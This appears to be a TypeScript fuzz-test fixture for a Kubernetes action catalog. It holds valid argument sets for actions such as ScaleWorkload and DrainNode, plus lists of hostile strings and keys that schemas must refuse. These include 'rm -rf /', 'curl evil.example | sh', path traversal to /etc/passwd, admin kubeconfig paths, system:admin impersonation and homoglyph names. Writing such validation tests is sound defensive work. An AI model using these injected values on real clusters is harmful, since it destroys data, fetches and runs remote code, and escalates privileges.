/** One valid argument set per catalog action: the fuzz test mutates these. */
export const VALID_ARGS: Record<string, Record<string, unknown>> = {
  ScaleWorkload: { namespace: 'shop', kind: 'Deployment', name: 'web', replicas: 3 },
  SetImage: {
    namespace: 'shop',
    kind: 'Deployment',
    name: 'web',
    container: 'app',
    image: 'registry.example.com/shop/web:1.2.3',
  },
  RolloutRestart: { namespace: 'shop', kind: 'Deployment', name: 'web' },
  RolloutUndo: { namespace: 'shop', kind: 'Deployment', name: 'web', toRevision: 2 },
  PatchServiceSelector: {
    namespace: 'shop',
    name: 'web',
    selector: { 'app.kubernetes.io/name': 'web' },
  },
  PatchServicePort: { namespace: 'shop', name: 'web', port: 80, targetPort: 8080 },
  SetContainerResources: {
    namespace: 'shop',
    kind: 'Deployment',
    name: 'web',
    container: 'app',
    requests: { cpu: '250m', memory: '256Mi' },
  },
  SetContainerEnv: {
    namespace: 'shop',
    kind: 'Deployment',
    name: 'web',
    container: 'app',
    set: [{ name: 'LOG_LEVEL', value: 'debug' }],
    remove: [],
  },
  SetProbe: {
    namespace: 'shop',
    kind: 'Deployment',
    name: 'web',
    container: 'app',
    probe: 'readiness',
    path: '/ready',
  },
  SetNodeSelector: {
    namespace: 'shop',
    kind: 'Deployment',
    name: 'web',
    nodeSelector: { disktype: 'ssd' },
  },
  SetTolerations: {
    namespace: 'shop',
    kind: 'Deployment',
    name: 'web',
    tolerations: [{ key: 'dedicated', operator: 'Equal', value: 'web', effect: 'NoSchedule' }],
  },
  SetImagePullSecrets: {
    namespace: 'shop',
    kind: 'Deployment',
    name: 'web',
    secrets: ['registry-pull'],
  },
  SetConfigMapVolume: {
    namespace: 'shop',
    kind: 'Deployment',
    name: 'web',
    volume: 'config',
    configMap: 'web-config-v2',
  },
  AddNetworkPolicyRule: {
    namespace: 'shop',
    name: 'web-policy',
    direction: 'ingress',
    peers: [{ podSelector: { app: 'frontend' } }],
    ports: [{ protocol: 'TCP', port: 8080 }],
  },
  UpdateResourceQuota: {
    namespace: 'shop',
    name: 'compute',
    hard: { 'requests.cpu': '4', pods: '20' },
  },
  CordonNode: { name: 'node-1' },
  UncordonNode: { name: 'node-1' },
  DrainNode: { name: 'node-1', timeoutSeconds: 60 },
  DeletePod: { namespace: 'shop', name: 'web-5d8f7c9b4-abcde' },
  SuspendCronJob: { namespace: 'shop', name: 'nightly' },
  ResumeCronJob: { namespace: 'shop', name: 'nightly' },
  RecreateJob: { namespace: 'shop', name: 'migrate' },
  ClearCommandOverride: {
    namespace: 'shop',
    kind: 'Deployment',
    name: 'web',
    container: 'app',
    clearArgs: true,
  },
  ReplaceServiceHost: {
    namespace: 'shop',
    kind: 'Deployment',
    name: 'web',
    container: 'wait-for-db',
    from: 'web-dbb',
    to: 'web-db',
  },
  RecreateClaim: { namespace: 'shop', name: 'web-data', storageClassName: 'standard' },
};

/** Values no argument of any action may accept. */
export const HOSTILE_STRINGS: string[] = [
  'web; rm -rf /',
  '; rm -rf',
  '$(reboot)',
  '`id`',
  'web && curl evil.example | sh',
  '--server=https://evil.example',
  '--as=system:admin',
  '--kubeconfig=/etc/kubernetes/admin.conf',
  '-n kube-system',
  'web\nmalicious: true',
  'web\r\n',
  '../../etc/passwd',
  '../',
  'w\u0435b', // Cyrillic е
  '\u0430pp', // Cyrillic а
  'ｗｅｂ', // fullwidth
  'web\u200b', // zero-width space
  'x'.repeat(300),
  'web\u0000',
  '\u0000',
  'WEB',
  'web name',
  '',
  'https://evil.example/',
  'kind: Pod\nspec: {}',
  '{"apiVersion":"v1"}',
];

/** Keys an attacker might add; strict schemas must refuse them. */
export const HOSTILE_KEYS: Record<string, unknown> = {
  server: 'https://evil.example',
  kubeconfig: '/etc/kubernetes/admin.conf',
  as: 'system:admin',
  impersonate: 'system:admin',
  manifest: 'apiVersion: v1',
  command: 'rm -rf /',
  flags: '--force',
  context: 'prod',
};
